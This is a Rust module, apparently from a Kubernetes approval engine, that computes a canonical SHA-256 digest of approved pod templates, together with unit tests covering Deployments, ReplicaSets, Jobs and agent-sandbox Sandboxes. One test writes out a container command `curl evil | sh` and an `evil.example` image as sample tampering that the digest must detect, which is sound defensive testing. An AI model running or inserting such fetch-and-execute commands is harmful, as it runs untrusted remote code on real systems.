//! The digest of what an approver approved: a workload's pod template, all of it (spec,
//! labels, annotations, every other metadata field), as SHA-256 over a canonical JSON text.
//!
//! Left out, because the stamp must survive them: the stamp annotation itself (it cannot sign
//! itself), `kubectl.kubernetes.io/restartedAt` (`kubectl rollout restart` writes it, and a
//! restart runs the approved content again), and the labels the control plane writes into a
//! template it made, but only with the value it writes: `pod-template-hash` on a Deployment's
//! ReplicaSet (equal to the suffix of the ReplicaSet's name), and a Job's `job-name` and
//! `controller-uid` labels (equal to the Job's own name and uid). A label of that name with any
//! other value is content like any other.
//!
//! agent-sandbox's Sandboxes and templates digest what reaches their Pods: agent-sandbox's
//! claim and warm-pool controllers copy a `SandboxTemplate`'s pod template into each Sandbox
//! they make and add to it, and a template's stamp must survive exactly those additions:
//! - labels and annotations under `agents.x-k8s.io/` and `extensions.agents.x-k8s.io/`, with
//!   any value: the controllers write their own there (pool, template and claim hashes), and
//!   the Sandbox controller never copies a pod template's key of those prefixes to its Pod;
//! - `automountServiceAccountToken: false` and the public resolvers `dnsPolicy: None` with
//!   `dnsConfig.nameservers: [8.8.8.8, 1.1.1.1]`, the "secure defaults" they write into a
//!   template that leaves these unset (both only take from the Pod, never give it more);
//! - `cluster-autoscaler.kubernetes.io/safe-to-evict: "true"`, which a warm pool may add to
//!   its idle Sandboxes and a claim takes off when it adopts one;
//! - a container's empty `resources: {}`, which is how the controllers' Go types write back a
//!   container that has none (the same as none).
//!
//! What a claim adds (its env and `additionalPodMetadata`) is content: a template's stamp does
//! not reach a Sandbox a claim changed that way (the claim itself is judged for what it adds).
//!
//! Why the canonical text is the same for a Deployment and the ReplicaSet its controller
//! makes (checked on a real control plane by tests/e2e/approvals.rs):
//! - the API server defaults an object when it decodes it, before any admission webhook sees
//!   it, so the mutating webhook digests the Deployment's template with its defaults already
//!   filled in (`imagePullPolicy`, `terminationMessagePath`, `dnsPolicy`, ...); the Deployment
//!   controller copies that stored template into the ReplicaSet (adding `pod-template-hash`),
//!   and defaulting the copy again adds nothing, since defaulting is idempotent;
//! - both texts are the API server's serialization of the same Go struct, so a field is absent
//!   or present the same way in both; the canonical form still drops `null` members (such as
//!   `creationTimestamp: null`) so that an absent field and a null one digest the same;
//! - object keys are sorted by their bytes and nothing else is reformatted, so the order the
//!   client or the API server wrote keys in does not matter, while every value does.

use super::grant::APPROVAL_ANNOTATION;
use crate::engine::review::{POD_TEMPLATE_HASH_LABEL, Template};
use serde_json::Value;
use sha2::{Digest, Sha256};

/// The annotation `kubectl rollout restart` writes into a template.
pub const RESTARTED_AT_ANNOTATION: &str = "kubectl.kubernetes.io/restartedAt";

/// The labels the API server writes into a Job's template (generated selector), old and new
/// spellings, and what their value is: the Job's name or its uid.
const JOB_NAME_LABELS: &[&str] = &["job-name", "batch.kubernetes.io/job-name"];
const JOB_UID_LABELS: &[&str] = &["controller-uid", "batch.kubernetes.io/controller-uid"];

/// Label and annotation prefixes agent-sandbox keeps for its controllers.
const SANDBOX_RESERVED_PREFIXES: &[&str] = &["agents.x-k8s.io/", "extensions.agents.x-k8s.io/"];
/// The annotation a warm pool may put on its idle Sandboxes' pod template.
const SAFE_TO_EVICT_ANNOTATION: &str = "cluster-autoscaler.kubernetes.io/safe-to-evict";
/// The resolvers agent-sandbox's controllers write into a template that sets no DNS policy.
const SANDBOX_DEFAULT_NAMESERVERS: [&str; 2] = ["8.8.8.8", "1.1.1.1"];

fn is_sandbox_kind(t: &Template) -> bool {
    crate::engine::review::SANDBOX_KINDS.contains(&t.kind.as_str())
}

/// The hex SHA-256 of the template's canonical text, `None` when the template was not read
/// whole (a template built in code without its JSON).
pub fn of_template(t: &Template, own_name: &str) -> Option<String> {
    let mut raw = t.raw.clone();
    let meta = raw.as_object_mut()?.get_mut("metadata");
    if let Some(Value::Object(meta)) = meta {
        if let Some(Value::Object(a)) = meta.get_mut("annotations") {
            a.remove(APPROVAL_ANNOTATION);
            a.remove(RESTARTED_AT_ANNOTATION);
        }
        if let Some(Value::Object(l)) = meta.get_mut("labels") {
            for (key, value) in control_plane_labels(t, own_name) {
                if l.get(key).and_then(Value::as_str) == Some(value.as_str()) {
                    l.remove(key);
                }
            }
        }
        if is_sandbox_kind(t) {
            for key in ["annotations", "labels"] {
                if let Some(Value::Object(m)) = meta.get_mut(key) {
                    m.retain(|k, _| !SANDBOX_RESERVED_PREFIXES.iter().any(|p| k.starts_with(p)));
                }
            }
            if let Some(Value::Object(a)) = meta.get_mut("annotations")
                && a.get(SAFE_TO_EVICT_ANNOTATION).and_then(Value::as_str) == Some("true")
            {
                a.remove(SAFE_TO_EVICT_ANNOTATION);
            }
        }
        for key in ["annotations", "labels"] {
            if meta
                .get(key)
                .is_some_and(|v| v.as_object().is_some_and(serde_json::Map::is_empty))
            {
                meta.remove(key);
            }
        }
    }
    if is_sandbox_kind(t)
        && let Some(Value::Object(spec)) = raw.get_mut("spec")
    {
        if spec.get("automountServiceAccountToken") == Some(&Value::Bool(false)) {
            spec.remove("automountServiceAccountToken");
        }
        // The controllers write the pod template back through Go's types, where a container's
        // `resources` is a struct: one the template left out comes back as `{}`.
        for list in ["initContainers", "containers"] {
            if let Some(Value::Array(cs)) = spec.get_mut(list) {
                for c in cs.iter_mut().filter_map(Value::as_object_mut) {
                    if c.get("resources")
                        .is_some_and(|r| r.as_object().is_some_and(serde_json::Map::is_empty))
                    {
                        c.remove("resources");
                    }
                }
            }
        }
        let public_resolvers = serde_json::json!({"nameservers": SANDBOX_DEFAULT_NAMESERVERS});
        if spec.get("dnsPolicy").and_then(Value::as_str) == Some("None")
            && spec.get("dnsConfig") == Some(&public_resolvers)
        {
            spec.remove("dnsPolicy");
            spec.remove("dnsConfig");
        }
    }
    let mut text = String::with_capacity(4096);
    canonical(&raw, &mut text);
    let digest = Sha256::digest(text.as_bytes());
    Some(super::grant::to_hex(&digest))
}

/// The labels the control plane writes into this template, with the value it writes.
fn control_plane_labels<'a>(t: &'a Template, own_name: &'a str) -> Vec<(&'static str, String)> {
    match t.kind.as_str() {
        "ReplicaSet" => {
            let owner = t
                .metadata
                .owner_references
                .iter()
                .flatten()
                .find(|o| o.controller == Some(true) && o.kind == "Deployment");
            owner
                .and_then(|o| own_name.strip_prefix(&format!("{}-", o.name)))
                .map(|hash| vec![(POD_TEMPLATE_HASH_LABEL, hash.to_string())])
                .unwrap_or_default()
        }
        "Job" => {
            let mut labels: Vec<(&'static str, String)> = JOB_NAME_LABELS
                .iter()
                .map(|l| (*l, own_name.to_string()))
                .collect();
            if let Some(uid) = &t.metadata.uid {
                labels.extend(JOB_UID_LABELS.iter().map(|l| (*l, uid.clone())));
            }
            labels
        }
        _ => Vec::new(),
    }
}

/// JSON with object keys sorted by their bytes, `null` members left out, no whitespace;
/// strings and numbers as serde_json writes them (one spelling each).
fn canonical(v: &Value, out: &mut String) {
    match v {
        Value::Object(map) => {
            let mut keys: Vec<&String> = map
                .iter()
                .filter(|(_, v)| !v.is_null())
                .map(|(k, _)| k)
                .collect();
            keys.sort();
            out.push('{');
            for (i, k) in keys.into_iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                out.push_str(&Value::String(k.clone()).to_string());
                out.push(':');
                if let Some(v) = map.get(k) {
                    canonical(v, out);
                }
            }
            out.push('}');
        }
        Value::Array(items) => {
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                canonical(item, out);
            }
            out.push(']');
        }
        other => out.push_str(&other.to_string()),
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use crate::engine::review::Subject;
    use serde_json::json;

    fn template(kind: &str, object: Value) -> Template {
        match Subject::from_value(kind, object).unwrap() {
            Subject::Template(t) => *t,
            other => panic!("{other:?}"),
        }
    }

    fn deployment(template: Value) -> Value {
        json!({"metadata": {"name": "agent"}, "spec": {"template": template}})
    }

    fn digest(kind: &str, object: Value) -> String {
        let t = template(kind, object);
        let name = t.metadata.name.clone().unwrap_or_default();
        of_template(&t, &name).unwrap()
    }

    fn base() -> Value {
        json!({
            "metadata": {"labels": {"app": "openclaw"},
                "annotations": {"openclaw.io/exempt": "read-only-root-filesystem"},
                "creationTimestamp": null},
            "spec": {"containers": [{"name": "agent", "image": "ghcr.io/openclaw/openclaw:1",
                "command": ["openclaw", "gateway"], "imagePullPolicy": "IfNotPresent"}]}
        })
    }

    #[test]
    fn key_order_nulls_the_stamp_and_a_restart_do_not_change_it() {
        let d = digest("Deployment", deployment(base()));
        assert_eq!(d.len(), 64);
        let reordered: Value = serde_json::from_str(
            r#"{"metadata":{"name":"agent"},"spec":{"template":{"spec":{"containers":[{"imagePullPolicy":"IfNotPresent","command":["openclaw","gateway"],"image":"ghcr.io/openclaw/openclaw:1","name":"agent"}]},"metadata":{"annotations":{"openclaw.io/exempt":"read-only-root-filesystem"},"labels":{"app":"openclaw"}}}}}"#,
        )
        .unwrap();
        assert_eq!(digest("Deployment", reordered), d);
        let mut t = base();
        t["metadata"]["annotations"][APPROVAL_ANNOTATION] = "v2;...".into();
        t["metadata"]["annotations"][RESTARTED_AT_ANNOTATION] = "2026-12-02T10:00:00Z".into();
        assert_eq!(digest("Deployment", deployment(t)), d);
    }

    #[test]
    fn every_other_change_changes_it_fields_no_check_reads_included() {
        let d = digest("Deployment", deployment(base()));
        let changes: Vec<fn(&mut Value)> = vec![
            |t| t["spec"]["containers"][0]["image"] = "evil.example/anything:latest".into(),
            |t| t["spec"]["containers"][0]["command"] = json!(["sh", "-c", "curl evil | sh"]),
            |t| t["spec"]["containers"][0]["args"] = json!(["--yolo"]),
            |t| t["spec"]["nodeName"] = "node-1".into(),
            |t| t["metadata"]["labels"]["extra"] = "1".into(),
            |t| t["metadata"]["annotations"]["openclaw.io/exempt"] = "seccomp-profile".into(),
            |t| t["metadata"]["annotations"]["other"] = "1".into(),
            |t| t["metadata"]["labels"][POD_TEMPLATE_HASH_LABEL] = "abc".into(),
        ];
        for (i, change) in changes.into_iter().enumerate() {
            let mut t = base();
            change(&mut t);
            assert_ne!(digest("Deployment", deployment(t)), d, "change {i}");
        }
    }

    #[test]
    fn a_replicaset_digests_as_its_deployment_when_its_hash_label_matches_its_name() {
        let d = digest("Deployment", deployment(base()));
        let rs = |name: &str, hash: &str| {
            let mut t = base();
            t["metadata"]["labels"][POD_TEMPLATE_HASH_LABEL] = hash.into();
            json!({"metadata": {"name": name, "ownerReferences": [{"apiVersion": "apps/v1",
                "kind": "Deployment", "name": "agent", "uid": "u", "controller": true}]},
                "spec": {"template": t}})
        };
        assert_eq!(digest("ReplicaSet", rs("agent-7d9f8b6c5", "7d9f8b6c5")), d);
        assert_ne!(digest("ReplicaSet", rs("agent-7d9f8b6c5", "other")), d);
    }

    fn sandbox(kind: &str, name: &str, pod_template: Value) -> Value {
        let mut o = json!({"metadata": {"name": name}, "spec": {"podTemplate": pod_template}});
        if kind == "Sandbox" {
            o["metadata"]["ownerReferences"] = json!([{"apiVersion": "extensions.agents.x-k8s.io/v1beta1",
                "kind": "SandboxWarmPool", "name": "pool", "uid": "u", "controller": true}]);
        }
        o
    }

    #[test]
    fn a_sandbox_a_pool_made_digests_as_its_template_and_nothing_else_does() {
        let d = digest(
            "SandboxTemplate",
            sandbox("SandboxTemplate", "hardened", base()),
        );
        // What agent-sandbox v1.0.1's warm pool and claim controllers add.
        let mut made = base();
        for (k, v) in [
            ("agents.x-k8s.io/warm-pool-sandbox", "1a2b3c4d"),
            ("agents.x-k8s.io/sandbox-template-ref-hash", "7970da52"),
            ("agents.x-k8s.io/sandbox-template-hash", "99"),
            ("agents.x-k8s.io/claim-uid", "0d6c"),
        ] {
            made["metadata"]["labels"][k] = v.into();
        }
        made["metadata"]["annotations"][SAFE_TO_EVICT_ANNOTATION] = "true".into();
        made["spec"]["automountServiceAccountToken"] = false.into();
        made["spec"]["dnsPolicy"] = "None".into();
        made["spec"]["dnsConfig"] = json!({"nameservers": ["8.8.8.8", "1.1.1.1"]});
        made["spec"]["containers"][0]["resources"] = json!({});
        assert_eq!(
            digest("Sandbox", sandbox("Sandbox", "pool-x7k2p", made.clone())),
            d
        );
        // Anything else is content: what a claim adds, other resolvers, a mounted token.
        let changes: Vec<fn(&mut Value)> = vec![
            |t| t["spec"]["containers"][0]["env"] = json!([{"name": "MODEL", "value": "x"}]),
            |t| t["metadata"]["labels"]["team"] = "a".into(),
            |t| t["spec"]["dnsConfig"] = json!({"nameservers": ["10.0.0.53"]}),
            |t| t["spec"]["automountServiceAccountToken"] = true.into(),
            |t| t["metadata"]["annotations"][SAFE_TO_EVICT_ANNOTATION] = "false".into(),
            |t| t["spec"]["containers"][0]["resources"] = json!({"limits": {"memory": "1Gi"}}),
        ];
        for (i, change) in changes.into_iter().enumerate() {
            let mut t = made.clone();
            change(&mut t);
            assert_ne!(
                digest("Sandbox", sandbox("Sandbox", "pool-x7k2p", t)),
                d,
                "change {i}"
            );
        }
        // The same keys on a Deployment are content like any other.
        assert_ne!(
            digest("Deployment", deployment(made)),
            digest("Deployment", deployment(base()))
        );
    }

    #[test]
    fn a_jobs_generated_labels_are_left_out_only_with_their_own_values() {
        let job = |labels: Value| {
            let mut t = base();
            for (k, v) in labels.as_object().unwrap() {
                t["metadata"]["labels"][k] = v.clone();
            }
            json!({"metadata": {"name": "run-1", "uid": "1234"}, "spec": {"template": t}})
        };
        let d = digest("Job", job(json!({})));
        let generated = json!({"job-name": "run-1", "batch.kubernetes.io/job-name": "run-1",
            "controller-uid": "1234", "batch.kubernetes.io/controller-uid": "1234"});
        assert_eq!(digest("Job", job(generated)), d);
        assert_ne!(digest("Job", job(json!({"job-name": "other"}))), d);
    }
}
